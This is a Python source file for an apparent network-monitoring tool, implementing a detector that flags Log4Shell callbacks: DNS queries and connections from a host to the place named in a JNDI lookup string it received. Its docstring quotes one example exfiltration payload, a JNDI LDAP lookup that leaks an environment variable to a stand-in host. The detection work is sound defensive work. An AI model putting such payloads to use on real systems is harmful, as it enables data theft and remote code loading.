"""LOG4J_CALLBACK: a host that received a lookup string contacts the place it named.

Matched by address, not by content: a connection from the victim to the lookup's host and port
(the scheme's default port when none was given), a DNS query by the victim for the named host or
for a name built around an exfiltrated value (`${jndi:ldap://${env:USER}.evil.tld/a}`), and
connections to the addresses DNS returned for that host.
"""

from __future__ import annotations

from kubectl_netmon.capture.conn import Conn
from kubectl_netmon.capture.l7.events import DnsMessage
from kubectl_netmon.detect.base import Detector, Notice
from kubectl_netmon.detect.log4shell import notes
from kubectl_netmon.detect.log4shell.correlate import Target, Tracker, endpoint


class CallbackDetector(Detector):
    """Raises LOG4J_CALLBACK for DNS queries as they happen and for connections when they end.
    Holds the first query name of each open DNS connection, for the notice at its end."""

    name = "log4shell.callback"

    def __init__(self, tracker: Tracker) -> None:
        super().__init__()
        self._tracker = tracker
        self._raised: set[str] = set()  # uids already reported
        self._queries: dict[Conn, str] = {}  # each open DNS connection's first query name

    def on_event(self, conn: Conn, event: object) -> None:
        if not isinstance(event, DnsMessage) or not event.query:
            return
        self._queries.setdefault(conn, event.query)
        targets = self._tracker.targets(conn.orig_h, event.ts_ns)
        for target in targets:
            if not target.matches_host(event.query):
                continue
            if event.is_response:
                target.ips.update(a for a in event.answers if _is_address(a))
            else:
                self._raise(conn, event.ts_ns, target, f"dns:{event.query.lower()}",
                            event.query)
        if targets and not event.is_response and conn.uid not in self._raised:
            self._check_conn(conn, event.ts_ns, event.query)

    def on_conn_end(self, conn: Conn) -> None:
        query = self._queries.pop(conn, "")
        if conn.uid in self._raised:
            self._raised.discard(conn.uid)
        else:
            self._check_conn(conn, conn.ts_ns, query)

    def _check_conn(self, conn: Conn, ts_ns: int, query: str) -> None:
        """Raise if conn goes from a victim to the host and port of a lookup it received."""
        for target in self._tracker.targets(conn.orig_h, conn.ts_ns):
            if target.uid != conn.uid and target.lookup.port == conn.resp_p and \
                    target.matches_host(conn.resp_h):
                self._raised.add(conn.uid)
                self._raise(conn, ts_ns, target, endpoint(conn.resp_h, conn.resp_p), query)
                return

    def _raise(self, conn: Conn, ts_ns: int, target: Target, what: str, query: str) -> None:
        lookup = target.lookup
        extra = {"lookup.scheme": lookup.scheme, "lookup.host": lookup.host,
                 "lookup.port": lookup.port, "attempt.uid": target.uid}
        sub = (f"lookup='{lookup.normalised}', target={lookup.target}, "
               f"seen={what}")
        if query:
            extra["dns.query"] = query
            sub += f", query='{query}'"
        notice = Notice.for_conn(conn, ts_ns, notes.CALLBACK, notes.MSG[notes.CALLBACK], sub=sub,
                                 identifier=f"{conn.orig_h}->{what}", extra=extra)
        self._tracker.report(self, notice, conn.orig_h, callback=lookup.target)


def _is_address(text: str) -> bool:
    return text.count(".") == 3 and text.replace(".", "").isdigit() or ":" in text
